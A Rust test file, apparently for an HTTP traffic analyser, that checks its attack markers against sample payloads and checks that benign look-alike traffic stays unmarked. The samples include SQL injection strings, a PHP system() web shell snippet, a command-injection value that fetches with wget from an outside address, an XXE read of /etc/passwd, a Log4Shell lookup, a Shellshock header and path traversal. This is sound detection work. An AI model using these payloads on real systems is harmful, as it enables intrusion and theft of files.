//! Marks of attacks in what is not told.

use super::{harness, of};

fn marks(head: &str, body: &[u8]) -> String {
    let request = format!("POST /a HTTP/1.1\r\nHost: h\r\n{head}Content-Length: {}\r\n\r\n", body.len());
    let events = harness().client(request.as_bytes()).client(body).finish();
    of(&events, "http")[0].get("vonggac.http.request.markers").cloned().unwrap_or_default()
}

#[test]
fn attacks_are_marked_by_place_and_kind() {
    for (head, body, told) in [
        ("", &b"id=1%27%20OR%20%271%27%3D%271"[..], "[body:sql]"),
        ("", b"q=1+UNION/**/SELECT+name", "[body:sql]"),
        ("", b"x=<?php system($_GET[0]);", "[body:php]"),
        ("", b"host=127.0.0.1;wget http://203.0.113.9/a", "[body:command]"),
        ("", b"<!DOCTYPE foo [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>", "[body:entity, body:path]"),
        ("", b"\xac\xed\x00\x05sr\x00", "[body:object]"),
        ("User-Agent: ${jndi:ldap://203.0.113.9/a}\r\n", b"", "[header:lookup]"),
        ("Referer: () { :; }; /bin/bash -c id\r\n", b"", "[header:command]"),
        ("Content-Type: %{(#_='multipart/form-data')}\r\n", b"", "[header:expression]"),
        ("Cookie: id=%27%20UNION%20SELECT%201\r\n", b"", "[cookie:sql]"),
        ("Cookie: rememberMe=rO0ABXNyABFqYXZh\r\n", b"", "[cookie:object]"),
        ("X-File: ../../../../etc/passwd\r\n", b"", "[header:path]"),
    ] {
        assert_eq!(marks(head, body), told, "{head} {}", String::from_utf8_lossy(body));
    }
}

#[test]
fn what_people_and_programs_send_is_not_marked() {
    let head = "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)\r\n\
                Accept: text/html,*/*;q=0.8\r\nCookie: _ga=GA1.2.3%7B%22a%22%3A1%7D; lang='vi'; csrf=$a`b\r\n\
                X-Data: {\"a\": \"<b>\"}\r\n";
    for body in [
        &b"user=o'brien&note=select+a+union+card+and+sleep+well"[..],
        b"{\"query\":\"query { user(id: 1) { name } }\",\"t\":\"${name} {{ value }}\"}",
        b"text=C%C3%B4ng+v%C4%83n+s%E1%BB%91+12%2F2026+v%E1%BB%81+vi%E1%BB%87c...",
        b"<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY ns_svg \"http://www.w3.org/2000/svg\">]><svg/>",
        b"html=%3Cscript+src%3D%22%2Fa.js%22%3E%3C%2Fscript%3E&path=../img/a.png",
    ] {
        assert_eq!(marks(head, body), "", "{}", String::from_utf8_lossy(body));
    }
}
